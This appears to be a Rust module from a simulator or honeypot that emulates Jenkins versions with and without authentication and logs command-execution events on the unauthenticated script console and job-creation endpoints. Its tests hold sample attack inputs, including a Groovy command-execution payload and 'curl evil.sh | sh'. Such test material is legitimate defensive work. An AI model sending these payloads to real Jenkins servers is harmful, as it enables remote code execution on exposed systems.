//! Jenkins model.
//!
//! * Versions before 2.0 (April 2016) performed no authentication out of
//!   the box; 2.0 introduced a random admin password during setup.
//! * Detection (Appendix Table 10): `GET /view/all/newJob` must be valid
//!   HTML containing `Jenkins` and a `form#createItem` element.
//! * Abuse surface: the script console (`POST /script`) and job creation
//!   (`POST /createItem`), both of which execute arbitrary commands on the
//!   controller.

use crate::base::{impl_webapp, BaseApp};
use crate::catalog::AppId;
use crate::config::AppConfig;
use crate::events::{AppEvent, HandleOutcome};
use crate::html;
use crate::version::Version;
use nokeys_http::{Request, Response};
use std::net::Ipv4Addr;

#[derive(Debug, Clone)]
pub struct Jenkins {
    pub(crate) base: BaseApp,
    /// Jobs created through the unauthenticated UI (attack residue).
    jobs: Vec<String>,
}

impl Jenkins {
    pub fn new(version: Version, config: AppConfig) -> Self {
        Jenkins {
            base: BaseApp::new(AppId::Jenkins, version, config),
            jobs: Vec::new(),
        }
    }

    fn head_extra(&self) -> String {
        format!(
            "{}\n{}",
            html::css("/static/style.css"),
            html::script("/static/app.js")
        )
    }

    fn dashboard(&self) -> Response {
        Response::html(html::page_with_head(
            "Dashboard [Jenkins]",
            &self.head_extra(),
            &format!(
                "<div id=\"jenkins\" class=\"jenkins-head-icon\">\
                 <span>Jenkins ver. {}</span>\
                 <a href=\"/view/all/newJob\">New Item</a>\
                 <!-- hudson.model.AllView --></div>",
                self.base.version.number()
            ),
        ))
        .with_header("X-Jenkins", &self.base.version.number())
    }

    fn login_redirect(&self, from: &str) -> Response {
        Response::redirect(&format!("/login?from={from}"))
    }

    fn login_page(&self) -> Response {
        Response::html(html::login_form("Jenkins", "/j_spring_security_check"))
            .with_header("X-Jenkins", &self.base.version.number())
    }

    fn route(&mut self, req: &Request, _peer: Ipv4Addr) -> HandleOutcome {
        let unauthenticated_admin = !self.base.config.auth_enabled;
        match (req.method, req.path()) {
            (nokeys_http::Method::Get, "/") => self.dashboard().into(),
            (nokeys_http::Method::Get, "/login") => self.login_page().into(),
            (nokeys_http::Method::Get, "/view/all/newJob") => {
                if unauthenticated_admin {
                    Response::html(html::page_with_head(
                        "New Item [Jenkins]",
                        &self.head_extra(),
                        "<form id=\"createItem\" action=\"/createItem\" method=\"post\">\
                         <input name=\"name\"><button>OK</button></form>\
                         <span>Jenkins</span>",
                    ))
                    .into()
                } else {
                    self.login_redirect("/view/all/newJob").into()
                }
            }
            (nokeys_http::Method::Post, "/createItem") => {
                if unauthenticated_admin {
                    let name = req.query_param("name").unwrap_or("job").to_string();
                    self.jobs.push(name.clone());
                    HandleOutcome::with_event(
                        Response::new(nokeys_http::StatusCode::OK).with_body("created"),
                        AppEvent::CommandExecuted {
                            command: format!("jenkins-build:{}", req.body_text()),
                        },
                    )
                } else {
                    Response::unauthorized("Jenkins").into()
                }
            }
            (nokeys_http::Method::Post, "/script") => {
                if unauthenticated_admin {
                    HandleOutcome::with_event(
                        Response::html(html::page("Script Console [Jenkins]", "<pre>ok</pre>")),
                        AppEvent::CommandExecuted {
                            command: req.body_text(),
                        },
                    )
                } else {
                    self.login_redirect("/script").into()
                }
            }
            _ => Response::not_found().into(),
        }
    }

    fn reset_state(&mut self) {
        self.jobs.clear();
    }
}

impl_webapp!(Jenkins, Jenkins::reset_state);

#[cfg(test)]
mod tests {
    use super::*;
    use crate::traits::{Driver, WebApp};
    use crate::version::release_history;
    const DRIVER: Driver = Driver::new();

    fn at(triple: (u16, u16, u16), vulnerable: bool) -> Jenkins {
        let v = *release_history(AppId::Jenkins)
            .iter()
            .find(|v| v.triple() == triple)
            .expect("version exists");
        let cfg = if vulnerable {
            AppConfig::vulnerable_for(AppId::Jenkins, &v)
        } else {
            AppConfig::default_for(AppId::Jenkins, &v)
        };
        Jenkins::new(v, cfg)
    }

    #[test]
    fn old_default_exposes_create_item_form() {
        let mut app = at((1, 500, 0), false);
        assert!(app.is_vulnerable(), "pre-2.0 default is vulnerable");
        let out = DRIVER.get(&mut app, "/view/all/newJob");
        let body = out.response.body_text();
        assert!(body.contains("Jenkins"));
        assert!(body.contains("id=\"createItem\""));
    }

    #[test]
    fn new_default_redirects_to_login() {
        let mut app = at((2, 0, 0), false);
        assert!(!app.is_vulnerable());
        let out = DRIVER.get(&mut app, "/view/all/newJob");
        assert!(out.response.is_followable_redirect());
        assert!(out.response.location().unwrap().starts_with("/login"));
    }

    #[test]
    fn script_console_executes_when_open() {
        let mut app = at((2, 0, 0), true);
        let out = DRIVER.post(&mut app, "/script", "println 'id'.execute().text");
        assert_eq!(out.events.len(), 1);
        assert!(
            matches!(&out.events[0], AppEvent::CommandExecuted { command } if command.contains("id"))
        );
    }

    #[test]
    fn script_console_is_walled_when_secure() {
        let mut app = at((2, 0, 0), false);
        let out = DRIVER.post(&mut app, "/script", "whoami");
        assert!(out.events.is_empty());
        assert!(out.response.is_followable_redirect());
    }

    #[test]
    fn create_item_emits_build_execution() {
        let mut app = at((1, 500, 0), false);
        let out = app.handle(
            &Request::post(
                "/createItem?name=pwn",
                "curl evil.sh | sh".as_bytes().to_vec(),
            ),
            std::net::Ipv4Addr::new(203, 0, 113, 9),
        );
        assert!(matches!(
            &out.events[0],
            AppEvent::CommandExecuted { command } if command.contains("curl evil.sh")
        ));
        assert_eq!(app.jobs, vec!["pwn"]);
    }

    #[test]
    fn restore_clears_attack_residue() {
        let mut app = at((1, 500, 0), false);
        let _ = DRIVER.post(&mut app, "/createItem?name=x", "payload");
        assert!(!app.jobs.is_empty());
        app.restore();
        assert!(app.jobs.is_empty());
    }

    #[test]
    fn dashboard_carries_version_header_and_markers() {
        let mut app = at((2, 0, 0), false);
        let out = DRIVER.get(&mut app, "/");
        assert!(out.response.headers.get("x-jenkins").is_some());
        assert!(out.response.body_text().contains("Dashboard [Jenkins]"));
        assert!(out.response.body_text().contains("jenkins-head-icon"));
    }
}
